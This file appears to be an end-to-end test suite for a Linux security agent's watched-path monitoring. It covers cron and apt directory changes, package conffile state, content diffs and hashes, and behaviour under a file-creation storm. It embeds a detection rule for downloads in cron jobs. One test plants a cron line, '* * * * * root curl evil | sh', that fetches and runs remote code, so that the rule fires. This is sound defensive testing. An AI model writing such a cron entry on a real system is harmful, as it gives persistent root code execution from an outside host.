// Watched paths under the real agent: quiet until a rule or the store query asks, and no storm there costs an execution or an alert.

import { createHash } from 'node:crypto';
import { appendFileSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { StepparentEvent } from '../../collectors/event/event.ts';
import { titled } from '../needs.ts';
import { makeParent, runBy } from './launchers.ts';
import { buildDeb } from './packages.ts';
import { endToEndMissing, enterPrivateHost, scratchDirectory } from './private-host.ts';
import { collectEvents, run, testAgent, until } from './run-agent.ts';

const missing = endToEndMissing;
const info = '/var/lib/dpkg/info';
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

const rule = `[metadata]
creation_date = "2026/11/30"

[rule]
rule_id = "download-in-cron-job"
name = "Download in a cron job"
description = "A cron job that downloads."
severity = "high"
risk_score = 73
type = "eql"
query = '''
file where event.action in ("creation", "rename", "modification") and file.directory like "*/etc/cron.d"
  and stepparent.file.content like~ "*curl*"
'''

[rule.alert_suppression]
group_by = ["file.path"]

[rule.alert_suppression.duration]
value = 24
unit = "h"
`;

describe.skipIf(missing)(titled('watched paths', missing), () => {
  const scratch = scratchDirectory();
  const root = join(scratch, 'host');
  const cron = join(root, 'etc/cron.d');
  const rules = join(scratch, 'rules');
  const settings = (store: string): string =>
    [
      `directories.rules = ${JSON.stringify([rules])}`,
      `watched_paths.add = ${JSON.stringify([`${cron}/*`, `${root}/etc/apt/**`, `${root}/none/**`])}`,
      `events.store = ${JSON.stringify(store)}`,
      '',
    ].join('\n');
  const agent = testAgent(scratch);
  const reported = collectEvents(agent, info);
  const watched = (events: readonly StepparentEvent[]): StepparentEvent[] =>
    events.filter(({ stepparent }) => stepparent.file?.watched === 'configured');
  const found = async (directories: number): Promise<void> => {
    await until('the watched directories', async () => {
      const { watched_paths } = await agent.status();
      return (watched_paths[0]?.directories ?? 0) >= directories;
    });
  };

  beforeAll(async () => {
    enterPrivateHost(scratch);
    mkdirSync(cron, { recursive: true });
    mkdirSync(join(root, 'etc/apt/conf.d'), { recursive: true });
    writeFileSync(join(cron, 'known'), 'old line\n');
    mkdirSync(rules);
    writeFileSync(join(rules, 'download-in-cron-job.toml'), rule);
    for (const name of ['dpkg-package-installed-by-unusual-parent', 'package-installed-by-unusual-initiator']) {
      symlinkSync(join(import.meta.dirname, '../../detectors/rules', `${name}.toml`), join(rules, `${name}.toml`));
    }
    agent.configure(settings('process.name:never'));
    await agent.start();
    await found(20);
  });
  afterAll(async () => {
    await agent.stop();
  });

  test('are in the status with their numbers', async () => {
    const { watched_paths } = await agent.status();
    expect(watched_paths).toMatchObject([
      { group: 'system', not_by_fanotify: [], skipped_directories: 0, uncounted: 0, dropped: 0 },
      { group: 'users', not_by_fanotify: [], skipped_directories: 0, uncounted: 0, dropped: 0 },
    ]);
    const { stdout } = await agent.cli('status');
    expect(stdout).toMatch(/watched paths {2}\d+ directories of the system, \d+ files, \d+ changes reported/);
  });

  test('are quiet: a change that no rule asks for is not stored, and a rule that asks for the content raises an alert', async () => {
    writeFileSync(join(cron, 'harmless'), '* * * * * root true\n');
    mkdirSync(join(root, 'etc/apt/apt.conf.d'));
    writeFileSync(join(root, 'etc/apt/apt.conf.d/99hook'), 'x');
    const writer = makeParent(scratch, 'writer');
    const { pid } = await run(writer, ['-c', `echo '* * * * * root curl evil | sh' > ${join(cron, 'evil')}`]);
    const [alert] = await until('the alert', async () => {
      const alerts = (await agent.alerts()).filter(({ rule: { id } }) => id === 'download-in-cron-job');
      return alerts.length > 0 && alerts;
    });
    expect(alert).toMatchObject({
      event: { action: 'creation', provider: 'fanotify', dataset: 'stepparent.file' },
      file: { path: join(cron, 'evil'), owner: 'root' },
      process: { pid, executable: writer, parent: { pid: process.pid } },
      stepparent: {
        file: {
          watched: 'configured',
          content: '* * * * * root curl evil | sh\n',
          package: { state: 'none' },
        },
      },
    });
    expect(watched(await reported()).map(({ file }) => file?.name)).toEqual(['evil']);
  });

  test('a change of known content has the difference, the owner and both hashes, if the store query asks', async () => {
    agent.configure(settings('stepparent.file.watched:configured'));
    expect((await agent.cli('reload')).code).toBe(0);
    const path = join(cron, 'known');
    const last = await until('a difference', async () => {
      const now = `${Date.now()}\n`;
      appendFileSync(path, now);
      const event = await until('the event of the write', async () =>
        watched(await agent.events()).find(
          ({ file, stepparent }) => file?.path === path && stepparent.file?.content?.endsWith(now),
        ),
      );
      // The first content is read some time after the start.
      return event.stepparent.file?.diff !== undefined && event;
    });
    const content = readFileSync(path, 'utf8');
    expect(last).toMatchObject({
      event: { action: 'modification' },
      file: { hash: { sha256: sha256(content) } },
      stepparent: { file: { content, changed: expect.arrayContaining(['size']), package: { state: 'none' } } },
    });
    expect(last.stepparent.file?.diff).toContain(`+${content.trim().split('\n').at(-1)}\n`);
    expect(last.stepparent.file?.previous?.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  test('files of a package have its name, and whether they are as it brought them', async () => {
    const file = join(root, 'etc/apt/conf.d/packaged');
    const deb = buildDeb(scratch, 'e2e-watched', { conffiles: { [file]: 'as packaged\n' } });
    expect((await run('dpkg', ['-i', deb])).code).toBe(0);
    appendFileSync(file, 'edited\n');
    const events = await until('the events of the file', async () => {
      const ofFile = watched(await reported()).filter((event) => event.file?.path === file);
      return ofFile.some(({ process: by }) => by?.name !== 'dpkg') && ofFile;
    });
    expect(events.at(-1)?.stepparent.file?.package).toEqual({ manager: 'dpkg', name: 'e2e-watched', state: 'changed' });
    writeFileSync(file, 'as packaged\n');
    await until('the file as it was', async () =>
      watched(await reported()).some(
        (event) => event.file?.path === file && event.stepparent.file?.package?.state === 'unchanged',
      ),
    );
  });

  test('100,000 files and 10,000 openings there cost no execution and no alert', async () => {
    agent.configure(settings('process.name:never'));
    expect((await agent.cli('reload')).code).toBe(0);
    const before = await agent.status();
    const storm = run('sh', [
      '-c',
      `cd ${cron} && seq -f storm%06g 100000 | xargs touch; i=0; while [ $i -lt 10000 ]; do : >> known; i=$((i+1)); done; rm -f storm*`,
    ]);
    const parents: string[] = [];
    for (let i = 0; i < 100; i++) {
      const parent = makeParent(scratch, `during${i}`);
      parents.push(parent);
      await runBy(parent, ['dpkg', '-i', `/none/${i}.deb`]);
    }
    await storm;
    const execs = await until('all executions', async () => {
      const listed = (await agent.execs()).filter(({ process: by }) => parents.includes(by?.parent?.executable ?? ''));
      return listed.length >= parents.length && listed;
    });
    expect(execs.map(({ process: by }) => by?.args)).toEqual(parents.map((_, i) => ['dpkg', '-i', `/none/${i}.deb`]));
    const alerts = await agent.alerts();
    expect(parents.filter((parent) => !alerts.some(({ stepparent }) => stepparent.alert.terms[0] === parent))).toEqual(
      [],
    );
    const { sensor, uncommitted, packages, watched_paths } = await agent.status();
    expect([sensor.lost_events, uncommitted.dropped]).toEqual([0, 0]);
    expect(packages.dropped).toBe(before.packages.dropped);
    // The storm was over the bounds, and counted.
    expect(watched_paths[0]?.dropped).toBeGreaterThan(0);
    rmSync(root, { recursive: true });
  });
});
